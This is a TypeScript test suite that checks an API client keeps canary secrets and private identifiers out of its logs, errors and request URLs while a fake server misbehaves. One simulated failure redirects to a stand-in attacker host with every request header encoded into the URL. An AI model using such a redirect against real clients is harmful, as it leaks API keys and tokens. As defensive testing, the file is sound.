import assert from 'node:assert/strict';
import { after, before, describe, it } from 'mocha';
import { inspect } from 'node:util';
import type { CallOptions, ConnectionClient } from '../../../src/client/connectionClient.ts';
import { errorText } from '../../../src/model/errorText.ts';
import { SpandeckError } from '../../../src/contract/problem.ts';
import {
	type Behaviour,
	behaviours,
	type MisbehavingServer,
	startMisbehavingServer,
} from '../../harness/servers/misbehavingServer.ts';
import { testClient } from './testClient.ts';

/** Never seen anywhere but in a request and in what a caller asked for. */
const canary = {
	apiKey: 'CANARY-api-key-1f2e3d',
	token: 'CANARY.token/4c5b6a==',
	pair: 'CANARY-pair-secret-"7"',
	llm: 'CANARY-llm-secret-8d9e0f',
	created: 'CANARY-created-secret-a1b2c3',
	encrypted: 'CANARY-encrypted-secret-d4e5f6',
};
const publicKey = 'pk-lf-canary';
/** What a log line must not hold either: ids in paths, values of queries and bodies. */
const privateWord = 'PRIVATE';

const forms = [
	'canary',
	Buffer.from(`${publicKey}:${canary.pair}`).toString('base64').slice(0, 30),
	...Object.values(canary).map((secret) => Buffer.from(secret).toString('base64').replace(/=+$/, '')),
].map((form) => form.toLowerCase());

const place = { organizationId: `${privateWord}-org`, projectId: `${privateWord}-prj` };
const calls: Record<string, (client: ConnectionClient, options: CallOptions) => Promise<unknown>> = {
	'organizations.list': (client, options) => client.organizations.list(options),
	'organizations.get': (client, options) => client.organizations.get(place, options),
	'projects.list': (client, options) => client.projects.list({ ...place, filters: { name: privateWord } }, options),
	'projects.create': (client, options) => client.projects.create(place, { name: privateWord }, options),
	'projects.get': (client, options) => client.projects.get({ ...place, include: ['apiKeys', 'llmApiKeys'] }, options),
	'projects.keyPair': (client, options) => client.projects.keyPair(place, options),
	'projects.update': (client, options) => client.projects.update(place, { name: privateWord }, options),
	'projects.delete': (client, options) => client.projects.delete(place, options),
	'apiKeys.create': (client, options) => client.apiKeys.create(place, { name: privateWord }, options),
	'apiKeys.update': (client, options) =>
		client.apiKeys.update({ ...place, apiKeyId: 'k' }, { name: privateWord }, options),
	'apiKeys.delete': (client, options) => client.apiKeys.delete({ ...place, apiKeyId: 'k' }, options),
	'llmApiKeys.create': (client, options) =>
		client.llmApiKeys.create(place, { provider: 'openai', secretKey: canary.llm }, options),
	'llmApiKeys.delete': (client, options) => client.llmApiKeys.delete({ ...place, llmApiKeyId: 'k' }, options),
	'members.list': (client, options) => client.members.list(place, options),
	'members.add': (client, options) => client.members.add(place, { email: 'a@b.example', role: 'MEMBER' }, options),
	'members.updateRole': (client, options) =>
		client.members.updateRole({ ...place, userId: 'u' }, { role: 'ADMIN' }, options),
	'members.remove': (client, options) => client.members.remove({ ...place, userId: 'u' }, options),
	'members.denyAccess': (client, options) => client.members.denyAccess({ ...place, userId: 'u' }, options),
	'members.restoreAccess': (client, options) => client.members.restoreAccess({ ...place, userId: 'u' }, {}, options),
	'invitations.list': (client, options) => client.invitations.list(place, options),
	'invitations.create': (client, options) => client.invitations.create(place, { email: 'a@b.example' }, options),
	'invitations.resend': (client, options) => client.invitations.resend({ ...place, invitationId: 'i' }, options),
	'invitations.cancel': (client, options) => client.invitations.cancel({ ...place, invitationId: 'i' }, options),
	'traces.list': (client, options) => client.traces.list(place, { name: privateWord }, options),
	'traces.get': (client, options) => client.traces.get({ ...place, traceId: privateWord }, options),
	'traces.glance': (client, options) => client.traces.glance({ ...place, traceId: privateWord }, options),
	'metrics.daily': (client, options) => client.metrics.daily(place, { traceName: privateWord }, options),
};

/** Where a resource, a list or a trace is wanted, this is one; its secrets are for whoever asked, or for nobody. */
const attributes = {
	name: 'Ledger',
	publicKey,
	secretKey: canary.created,
	encryptedSecretKey: canary.encrypted,
	displaySecretKey: '...0f',
};
const resource = { id: 'one', type: 'project', attributes };
const success: Behaviour = (request, response) => {
	const isList =
		request.method === 'GET' && /(?:organizations|projects|users|invitations|traces|daily)(?:\?|$)/.test(request.url);
	const trace = { id: 't', timestamp: '2026-11-24T10:00:00Z' };
	const one = {
		data: resource,
		included: [{ ...resource, type: 'apiKey' }],
		meta: { secrets: { one: canary.encrypted } },
		...trace,
	};
	behaviours.json(
		200,
		isList ? { data: [{ ...resource, ...trace, date: '2026-11-24' }, { name: canary.encrypted }] } : one,
	)(request, response);
};
const pairAnswer = behaviours.json(200, {
	data: { id: 'prj', type: 'project', attributes: { publicKey, secretKey: canary.pair } },
});

const failures: Record<string, Behaviour> = {
	'400 that echoes in an error object': behaviours.echo(400, (said) => ({
		errors: [{ status: '400', code: said, title: said, detail: said, source: { pointer: said } }],
	})),
	'401 that echoes in message and error': behaviours.echo(401, (said) => ({ message: said, error: said })),
	'403 that echoes in { error: { message } }': behaviours.echo(403, (said) => ({ error: { message: said } })),
	'409 that echoes as text': behaviours.echo(409, (said) => said),
	'422 that echoes in a title of HTML': behaviours.echo(422, (said) => `<html><title>${said}</title></html>`),
	'500 that echoes in a list of details': behaviours.echo(500, (said) => ({ detail: [{ msg: said }, { msg: said }] })),
	'200 that echoes without JSON': behaviours.echo(200, (said) => said),
	'200 that echoes where data was to be': behaviours.echo(200, (said) => ({ said })),
	'a redirect that echoes': (request, response) => {
		behaviours.redirect(302, `https://evil.example/${encodeURIComponent(JSON.stringify(request.headers))}`)(
			request,
			response,
		);
	},
	'a broken connection': behaviours.reset(),
};

/** Everything that a person, a log or a report could get of an error. */
function everythingOf(error: SpandeckError): string {
	const chain: unknown[] = [];
	for (let part: unknown = error; part instanceof Error; part = part.cause) {
		chain.push(part.message, part.stack, JSON.stringify(part), Object.entries(part));
	}
	return `${inspect(error, { depth: 20, showHidden: true })} ${inspect(chain, { depth: 20 })} ${JSON.stringify(error.problem)} ${errorText(error).sentence}`;
}

function assertNoCanary(text: string, where: string): void {
	const lower = text.toLowerCase();
	for (const form of forms) {
		const at = lower.indexOf(form);
		assert.equal(at, -1, `${where}: ...${text.slice(Math.max(0, at - 60), at + 60)}...`);
	}
}

describe('secrets', () => {
	let server: MisbehavingServer;
	before(async () => {
		server = await startMisbehavingServer();
	});
	after(() => server.stop());

	async function outcome(name: string, behaviour: Behaviour) {
		server.always(behaviour);
		server.on('GET', /secret=true/, name === 'projects.keyPair' ? behaviour : pairAnswer);
		const credentials = { apiKey: canary.apiKey, token: canary.token };
		const { client, lines } = testClient({ url: server.url, credentials, clock: impatientClock });
		const settled = await calls[name]?.(client, {}).then(
			(value) => ({ value }),
			(error: unknown) => ({ error }),
		);
		return { ...settled, lines };
	}

	for (const name of Object.keys(calls)) {
		it(`of ${name} are in no log line, error or address, whatever the server does`, async () => {
			const count = server.requests.length;
			for (const [what, behaviour] of Object.entries({ success, ...failures })) {
				const { error, lines } = (await outcome(name, behaviour)) as { error?: unknown; lines: string[] };
				assert.ok(lines.length > 0);
				assertNoCanary(lines.join('\n'), `log, ${what}`);
				assert.ok(!lines.join('\n').includes(privateWord), `${what}: ${lines.join('\n')}`);
				if (error !== undefined) {
					assert.ok(error instanceof SpandeckError);
					assertNoCanary(everythingOf(error), `error, ${what}`);
				}
			}
			for (const { url } of server.requests.slice(count)) {
				assertNoCanary(decodeURIComponent(url), 'address');
			}
		});
	}

	it('come out only where they were asked for: the key pair and the key just made', async () => {
		for (const name of Object.keys(calls)) {
			const { value, error } = (await outcome(name, success)) as { value?: unknown; error?: unknown };
			assert.equal(error, undefined, `${name}: ${String(error)}`);
			const text = JSON.stringify({ value });
			const expected = name === 'projects.keyPair' || name === 'apiKeys.create';
			assert.equal(text.includes(canary.created), expected, name);
			assert.ok(!text.includes(canary.encrypted), name);
		}
	});

	it('are looked for in every call that carries any', () => {
		const { connection, capabilities, ...parts } = testClient({ url: server.url }).client;
		assert.ok(connection.id !== '' && capabilities.administration);
		const methods = Object.entries(parts).flatMap(([part, value]) =>
			typeof value === 'object' ? Object.keys(value).map((method) => `${part}.${method}`) : [],
		);
		// It sends no credentials.
		assert.deepEqual(Object.keys(calls).sort(), methods.filter((name) => name !== 'health.get').sort());
	});

	it('are what the failures really echo: without masking they would be found', async () => {
		server.always(failures['409 that echoes as text'] ?? success);
		const response = await fetch(server.url, { headers: { 'Api-Key': canary.apiKey } });

		assert.ok((await response.text()).includes(canary.apiKey));
	});
});

/** Waits for nothing: the pauses before a read is repeated are not the point here. */
const impatientClock = {
	now: () => Date.now(),
	after: (delayMs: number, run: () => void) => {
		const timer = delayMs > 10_000 ? undefined : setImmediate(run);
		return {
			dispose: () => {
				clearImmediate(timer);
			},
		};
	},
};
